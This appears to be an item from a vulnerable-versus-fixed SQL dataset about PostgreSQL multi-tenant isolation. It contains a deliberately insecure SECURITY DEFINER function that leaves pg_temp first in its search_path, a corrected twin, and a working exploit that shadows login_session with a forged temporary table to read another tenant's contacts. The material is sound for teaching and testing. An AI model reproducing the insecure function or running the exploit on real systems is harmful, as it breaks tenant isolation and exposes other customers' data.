-- The definer function that verifies tokens names its table without schema and leaves pg_temp where it is by default: first.
-- object: ctx.tenant_id()
-- base: third_session
--- leak
CREATE OR REPLACE FUNCTION ctx.tenant_id() RETURNS integer LANGUAGE sql STABLE SECURITY DEFINER SET search_path = ctx AS $$
    SELECT tenant_id FROM login_session WHERE token = current_setting('ctx.token', true) AND expires_at > now()
$$;
--- twin
CREATE OR REPLACE FUNCTION ctx.tenant_id() RETURNS integer LANGUAGE sql STABLE SECURITY DEFINER SET search_path = ctx, pg_temp AS $$
    SELECT tenant_id FROM login_session WHERE token = current_setting('ctx.token', true) AND expires_at > now()
$$;
--- exploit
CREATE TEMP TABLE login_session AS SELECT 'forged' AS token, 2 AS tenant_id, 'infinity'::timestamptz AS expires_at;
GRANT SELECT ON login_session TO PUBLIC;
SELECT set_config('ctx.token', 'forged', true);
SELECT name FROM crm.contact WHERE tenant_id = 2;
